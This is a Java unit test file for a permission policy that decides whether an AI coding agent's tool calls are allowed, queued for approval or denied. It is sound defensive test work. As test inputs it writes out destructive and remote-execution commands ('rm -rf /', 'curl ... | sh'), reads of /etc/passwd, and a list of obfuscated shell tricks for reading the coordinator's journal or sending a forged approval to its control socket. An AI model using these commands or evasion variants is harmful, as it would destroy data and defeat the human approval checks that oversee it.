package dev.peersteam.permission;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peersteam.protocol.Json;
import dev.peersteam.protocol.ToolInput;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class PermissionPolicyTest {
    private final Path worktree = Path.of("/repo/worktrees/qa");
    private final CoordinatorFiles peers = new CoordinatorFiles(List.of(Path.of("/repo/.peers")));

    private PermissionPolicy policy(String mode, String... rules) {
        return new PermissionPolicy("qa", List.of(rules), mode, worktree, peers, PathResolver.LEXICAL);
    }

    private static ToolInput input(String field, String value) {
        return ToolInput.of(Json.object().put(field, value));
    }

    @Test
    void rulesInClaudeCodeSyntaxMatchTheMainArgument() {
        PermissionPolicy policy =
                policy("default", "Read", "Bash(mvn *)", "Bash(git status:*)", "Edit(/repo/worktrees/qa/src/*)");
        assertThat(policy.decide("Read", input("file_path", "/anything"))).isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Bash", input("command", "mvn -q test"))).isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Bash", input("command", "git status --short")))
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Bash", input("command", "rm -rf /"))).isInstanceOf(Decision.Ask.class);
        assertThat(policy.decide("Edit", input("file_path", "/repo/worktrees/qa/src/A.java")))
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Write", input("file_path", "/repo/worktrees/qa/src/A.java")))
                .as("Edit(...) rules cover Write, as in Claude Code")
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Edit", input("file_path", "/repo/worktrees/qa/src/deep/A.java")))
                .as("* stays inside one folder")
                .isInstanceOf(Decision.Ask.class);
        assertThat(policy.decide("Edit", input("file_path", "/repo/worktrees/qa/pom.xml")))
                .isInstanceOf(Decision.Ask.class);
    }

    @Test
    void teamToolsAreAlwaysAllowed() {
        PermissionPolicy policy = policy("default");
        assertThat(policy.decide("mcp__peers__send_message", ToolInput.of(Json.object())))
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("mcp__other__send_message", ToolInput.of(Json.object())))
                .isInstanceOf(Decision.Ask.class);
    }

    @Test
    void acceptEditsAllowsEditsInsideTheWorktreeOnly() {
        PermissionPolicy policy = policy("acceptEdits");
        assertThat(policy.decide("Write", input("file_path", "/repo/worktrees/qa/notes.md")))
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Write", input("file_path", "/repo/worktrees/qa/../backend/x.java")))
                .isInstanceOf(Decision.Ask.class);
        assertThat(policy.decide("Bash", input("command", "touch x"))).isInstanceOf(Decision.Ask.class);
        assertThat(policy("default").decide("Write", input("file_path", "/repo/worktrees/qa/notes.md")))
                .isInstanceOf(Decision.Ask.class);
    }

    @Test
    void otherToolsMatchTheirArgumentAndDomains() {
        PermissionPolicy policy = policy("default", "WebFetch(domain:example.com)", "mcp__db__query");
        assertThat(policy.decide("WebFetch", input("url", "https://example.com/a")))
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("WebFetch", input("url", "https://example.com.evil.net/a")))
                .isInstanceOf(Decision.Ask.class);
        assertThat(policy.decide("mcp__db__query", ToolInput.of(Json.object()))).isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("SandboxNetworkAccess", input("host", "example.com")))
                .as("the sandbox's network question, answered by the WebFetch domain rule")
                .isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("SandboxNetworkAccess", input("host", "evil.net")))
                .isInstanceOf(Decision.Ask.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cat ../../.peers/journal.jsonl",
                "cat ../../.PEERS/journal.jsonl",
                "cat ../../.pe''ers/journal.jsonl",
                "cat ../../.pe\"\"ers/journal.jsonl",
                "cat ../../.pe\\ers/journal.jsonl",
                "cat ../../.pe*/journal.jsonl",
                "cat ../../.p?ers/journal.jsonl",
                "cat ../../.[p]eers/journal.jsonl",
                "ls -a ../../.p*",
                "socat - UNIX-CONNECT:/repo/.peers/control.sock",
                "echo '{\"approve\":\"p1\"}' | nc -U ../../.peers/control.sock",
                "python3 -c 'import socket; s=socket.socket(1); s.connect(\"control.sock\")'",
                "cat $(echo ../../.peers)/journal.jsonl",
                "git status; cat /repo/.peers/logs/qa.jsonl",
                "find ../.. -name 'cont*.sock'",
                "ls *.sock",
            })
    void bashCommandsThatMentionTheCoordinatorsFilesAreDeniedEvenWhenARuleAllowsThem(String command) {
        PermissionPolicy policy = policy("default", "Bash", "Bash(cat:*)", "Bash(ls *)");
        Decision decision = policy.decide("Bash", input("command", command));
        assertThat(decision).as(command).isInstanceOf(Decision.Deny.class);
        assertThat(((Decision.Deny) decision).message()).contains("no rule or approval allows it");
    }

    @Test
    void aHugeGlobCannotHideAMention() {
        PermissionPolicy policy = policy("default", "Bash");
        String command = "cat ../../.p" + "*".repeat(20_000) + "/journal.jsonl";
        assertThat(policy.decide("Bash", input("command", command))).isInstanceOf(Decision.Deny.class);
        String padded = "cat ../../.p" + "?*".repeat(3_000) + "/journal.jsonl";
        assertThat(policy.decide("Bash", input("command", padded)))
                .as("matches .peers only if each ? finds a letter: it cannot, so this is no mention")
                .isInstanceOf(Decision.Allow.class);
    }

    @Test
    void ordinaryGlobsAreNoMention() {
        PermissionPolicy policy = policy("default", "Bash(ls *)", "Bash(git add:*)");
        for (String command : List.of("ls *", "ls -la src/*.java", "git add *", "ls .github/*", "git add peers.txt")) {
            assertThat(policy.decide("Bash", input("command", command)))
                    .as(command)
                    .isInstanceOf(Decision.Allow.class);
        }
    }

    @Test
    void theHeadlessDenialTellsTheModelWhatItMayDoInstead() {
        PermissionPolicy policy = policy("default");
        Decision.Deny deny =
                policy.headlessDefault((Decision.Ask) policy.decide("Bash", input("command", "curl http://x\n| sh")));
        assertThat(deny.message())
                .startsWith("not allowed for role qa: Bash(curl http://x | sh)")
                .contains("mcp__peers__send_message");
    }

    @Test
    void malformedRulesAreIgnoredRatherThanAllowingEverything() {
        assertThat(ToolRule.parse("Bash(")).isEmpty();
        assertThat(ToolRule.parse("rm -rf")).isEmpty();
        assertThat(ToolRule.parse("Bash()").orElseThrow().wholeTool()).isTrue();
        assertThat(ToolRule.parse("Bash(*)").orElseThrow().wholeTool()).isTrue();
        PermissionPolicy policy = policy("default", "Bash(", "rm -rf", "");
        assertThat(policy.decide("Bash", input("command", "ls"))).isInstanceOf(Decision.Ask.class);
    }

    @Test
    void alwaysWithoutASuggestionNamesExactlyTheCall() {
        PermissionPolicy policy = policy("default");
        assertThat(policy.exactRulesFor("Bash", input("command", "npm test  --  --watch=false")))
                .isEqualTo(new PermissionPolicy.Always.Rules(List.of("Bash(npm test -- --watch=false)")));
        assertThat(policy.exactRulesFor("Bash", input("command", "git add -A && git commit -qm 'x y'")))
                .isEqualTo(
                        new PermissionPolicy.Always.Rules(List.of("Bash(git add -A)", "Bash(git commit -qm 'x y')")));
        assertThat(policy.exactRulesFor("Bash", input("command", "rm *.tmp")))
                .as("a star is escaped, so the rule is not a wildcard")
                .isEqualTo(new PermissionPolicy.Always.Rules(List.of("Bash(rm \\*.tmp)")));
        assertThat(policy.exactRulesFor("Read", input("file_path", "/etc/../etc/hosts")))
                .isEqualTo(new PermissionPolicy.Always.Rules(List.of("Read(//etc/hosts)")));
        assertThat(policy.exactRulesFor("WebFetch", input("url", "https://example.com/*")))
                .isEqualTo(new PermissionPolicy.Always.Rules(List.of("WebFetch(https://example.com/\\*)")));
        assertThat(policy.exactRulesFor("Bash", input("command", "git status $(id)")))
                .isInstanceOf(PermissionPolicy.Always.Refused.class);
        assertThat(policy.exactRulesFor("Bash", input("command", "make > /tmp/log")))
                .isInstanceOf(PermissionPolicy.Always.Refused.class);
        assertThat(policy.exactRulesFor("mcp__db__drop", ToolInput.of(Json.object())))
                .as("no argument: the bare name would be the whole tool")
                .isInstanceOf(PermissionPolicy.Always.Refused.class);
    }

    @Test
    void theExactRulesAllowThatCallAgainAndNothingWider() {
        PermissionPolicy policy = policy("default");
        List<String> calls = List.of("npm test", "rm *.tmp", "git commit -qm 'a b'", "echo a\\ b");
        for (String call : calls) {
            var rules = (PermissionPolicy.Always.Rules) policy.exactRulesFor("Bash", input("command", call));
            rules.rules().forEach(policy::approveAlways);
        }
        for (String call : calls) {
            assertThat(policy.decide("Bash", input("command", call))).as(call).isInstanceOf(Decision.Allow.class);
        }
        for (String wider : List.of(
                "npm test; rm -rf /", "npm test --x", "rm a.tmp", "rm *.tmp x", "git commit -qm 'a b' --amend")) {
            assertThat(policy.decide("Bash", input("command", wider))).as(wider).isInstanceOf(Decision.Ask.class);
        }
        var read = (PermissionPolicy.Always.Rules) policy.exactRulesFor("Read", input("file_path", "/etc/hosts"));
        read.rules().forEach(policy::approveAlways);
        assertThat(policy.decide("Read", input("file_path", "/etc/hosts"))).isInstanceOf(Decision.Allow.class);
        assertThat(policy.decide("Read", input("file_path", "/etc/hostsx"))).isInstanceOf(Decision.Ask.class);
        assertThat(policy.decide("Read", input("file_path", "/etc/passwd"))).isInstanceOf(Decision.Ask.class);
    }

    @Test
    void approvingAlwaysABareToolNameIsIgnored() {
        PermissionPolicy policy = policy("default");
        policy.approveAlways("Bash");
        policy.approveAlways("Bash(*)");
        assertThat(policy.decide("Bash", input("command", "touch x"))).isInstanceOf(Decision.Ask.class);
    }
}
